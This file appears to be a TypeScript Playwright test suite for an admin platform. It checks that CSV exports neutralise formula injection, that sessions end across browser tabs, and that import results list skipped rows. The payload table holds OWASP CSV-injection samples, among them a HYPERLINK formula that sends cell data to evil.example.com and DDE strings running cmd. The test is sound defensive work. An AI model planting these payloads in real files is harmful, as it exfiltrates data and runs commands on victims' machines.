import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { FAULT, platform, realApiSuite, signIn, tallyFor } from './platform';

/**
 * Safe on a shared desk, against the standalone platform server: list exports no spreadsheet can
 * turn into formulas, one session for every tab, and an import result that names every row it
 * did not import.
 */
const tally = tallyFor(import.meta.url);
const suite = realApiSuite();

/** OWASP's CSV-injection payloads, as platform users can write them into their own texts. */
const PAYLOAD = {
  hyperlink: '=HYPERLINK("https://evil.example.com/?c="&A1,"Open invoice")',
  dde: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+2',
};

/** A cell a spreadsheet would run: =, @, a tab or CR first, or a sign before more than a number. */
const LIVE = /^(?:[=@\t\r]|[+-](?![\d,.$%]*$))/;

async function exportList(page: Page, route: string, heading: string): Promise<string[][]> {
  await page.goto(route);
  await page.getByRole('heading', { name: heading, level: 1 }).waitFor();
  await page.locator('tbody tr').first().waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    // The platform's keys and values (the screen's Export names its columns as shown).
    page.getByRole('button', { name: 'CSV for re-import' }).click(),
  ]);
  return Papa.parse<string[]>(readFileSync(await download.path(), 'utf8'), { skipEmptyLines: true }).data;
}

/** Every cell of the file is inert; the hostile record's cells carry the payloads as text. */
function checkCells(rows: string[][], expected: Record<string, string>) {
  const [header, ...body] = rows;
  expect(body.length).toBeGreaterThan(1);
  for (const row of body)
    for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(LIVE);
  for (const [column, value] of Object.entries(expected)) {
    const index = header!.indexOf(column);
    expect(index, column).toBeGreaterThanOrEqual(0);
    const cells = body.map((row) => row[index]);
    expect(cells, column).toContain(`'${value}`);
  }
}

describe('list exports hold no live formula', () => {
  it('users, stores and agents whose texts carry formula payloads export them as text, every cell checked', async () => {
    const { page } = suite;
    tally.screen('/DataListing');
    tally.screen('/Stores');
    tally.screen('/CreateAgent');
    const [user, ...users] = await platform.collection<Record<string, unknown>>('users');
    await platform.setCollection('users', [
      {
        ...user,
        fullName: PAYLOAD.hyperlink,
        tagLine: PAYLOAD.dde,
        userName: PAYLOAD.minus,
        phone: '+1 512 555 0170',
      },
      ...users,
    ]);
    const [store, ...stores] = await platform.collection<Record<string, unknown>>('stores');
    await platform.setCollection('stores', [
      { ...store, businessName: PAYLOAD.plus, businessAddress: PAYLOAD.dde },
      ...stores,
    ]);
    const [agent, ...agents] = await platform.collection<Record<string, unknown>>('agents');
    await platform.setCollection('agents', [
      { ...agent, first_name: PAYLOAD.hyperlink, last_name: 'x', referralNumber: PAYLOAD.tab },
      ...agents,
    ]);

    checkCells(await exportList(page, '/DataListing', 'User Listing'), {
      fullName: PAYLOAD.hyperlink,
      tagLine: PAYLOAD.dde,
      userName: PAYLOAD.minus,
      phone: '+1 512 555 0170',
    });
    checkCells(await exportList(page, '/Stores', 'Manage Stores'), {
      businessName: PAYLOAD.plus,
      businessAddress: PAYLOAD.dde,
    });
    checkCells(await exportList(page, '/CreateAgent', 'Manage Agents'), {
      fullName: `${PAYLOAD.hyperlink} x`,
      referralNumber: PAYLOAD.tab,
    });
  });
});

/** The platform's calls that return records. */
const RECORD_CALLS =
  /adminUserLists|getAllStoresAdmin|adminAgentList|adminCouponList|viewAllCoupons|dashboardData|getadminFeedList|getCsvData/;

/** A second tab of the same browser (same storage, same cookies), and the record calls it sends. */
async function secondTab(page: Page, route: string) {
  const other = await page.context().newPage();
  const errors: string[] = [];
  const sent: string[] = [];
  other.on('pageerror', (error) => errors.push(String(error)));
  other.on('request', (request) => {
    if (RECORD_CALLS.test(request.url())) sent.push(`${request.method()} ${request.url()}`);
  });
  await other.goto(route);
  await other.locator('tbody tr').first().waitFor();
  return { other, errors, sent };
}

describe('one session for every tab', () => {
  it('a logout in one tab: within 1 s the other is at /login, shows no record, and asks for none', async () => {
    const { page } = suite;
    const { other, errors, sent } = await secondTab(page, '/DataListing');
    const [first] = await platform.collection<{ fullName: string }>('users');
    await other.getByText(first!.fullName).first().waitFor();
    sent.length = 0;

    await page.getByRole('menuitem', { name: 'Logout' }).click();
    const started = Date.now();
    await other.waitForURL(/\/login$/, { timeout: 1000 });
    expect(Date.now() - started).toBeLessThan(1000);
    await other.getByRole('heading', { name: 'Admin Login' }).waitFor();
    await other.getByText(/Your session has ended/).waitFor();
    expect(await other.locator('tbody tr').count()).toBe(0);
    expect(await other.getByText(first!.fullName).count()).toBe(0);
    await other.waitForTimeout(1000);
    // Nothing asked for records, even on a press of the sidebar's entries (none is left to press).
    expect(sent).toEqual([]);
    expect(await other.evaluate(() => localStorage.getItem('username'))).toBeNull();
    expect(errors).toEqual([]);

    // Signing in again in the first tab: the second carries on from its next navigation.
    await page.goto('/login');
    await signIn(page);
    await page.waitForURL(/\/DashboardHome$/);
    await other.getByText(/Your session has ended/).waitFor({ state: 'detached' });
    await other.goto('/Stores');
    await other.getByRole('heading', { name: 'Manage Stores', level: 1 }).waitFor();
    await other.locator('tbody tr').first().waitFor();
    expect(other.url()).toMatch(/\/Stores$/);
  });

  it('an expiry (a 401) in one tab ends the session in the other, which keeps its place for after signing in', async () => {
    const { page } = suite;
    const { other, errors, sent } = await secondTab(page, '/Stores');
    await platform.fault({ path: '/users/adminUserLists', reply: FAULT.unauthorized });
    sent.length = 0;
    await page.getByRole('menuitem', { name: 'User Listing' }).click();
    await page.getByRole('heading', { name: 'Admin Login' }).waitFor({ timeout: 5000 });
    await other.waitForURL(/\/login$/, { timeout: 1000 });
    await other.getByText(/Your session has ended/).waitFor();
    expect(await other.locator('tbody tr').count()).toBe(0);
    await other.waitForTimeout(1000);
    expect(sent).toEqual([]);
    expect(errors).toEqual([]);

    await platform.clearFaults();
    await signIn(other);
    await other.waitForURL(/\/Stores$/);
    await other.locator('tbody tr').first().waitFor();
  });
});

describe('the import result names every row not imported', () => {
  it('a two-row import with one flagged row names both rows, in the result and in the download', async () => {
    const { page } = suite;
    tally.screen('/BusinessUploads');
    const seeded = (await platform.collection<{ businessName: string }>('stores')).find(
      (store) => !/[",]/.test(store.businessName),
    );
    const csv = [
      'businessName,businessCity,businessState,businessZip,phone',
      `${seeded!.businessName},Austin,TX,73301,+1 512 555 0170`,
      'Shared Desk Bakery,Reno,NV,89501,7755550172',
    ].join('\n');
    await page.goto('/BusinessUploads');
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'two.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    await page.getByText('2 rows: 1 likely duplicate, 0 malformed · 1 row will be sent').waitFor();
    await page.getByRole('button', { name: 'Upload File' }).click();
    const panel = page.getByRole('region', { name: 'Import result' });
    await panel
      .getByText('1 row created a store · 0 rows skipped by the server · 1 row left out before sending')
      .waitFor();
    const rows = panel.locator('tbody tr');
    await expect(rows.count()).resolves.toBe(2);
    const texts = await rows.evaluateAll((trs) =>
      trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent)),
    );
    expect(texts).toEqual([
      ['1', seeded!.businessName, `Left out before sending: Same name as store “${seeded!.businessName}”`],
      ['2', 'Shared Desk Bakery', 'New store “Shared Desk Bakery”'],
    ]);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      panel.getByRole('button', { name: 'Download skipped rows (CSV)' }).click(),
    ]);
    expect(readFileSync(await download.path(), 'utf8')).toBe(
      `businessName,businessCity,businessState,businessZip,phone\n${seeded!.businessName},Austin,TX,73301,"'+1 512 555 0170"`,
    );
  });
});
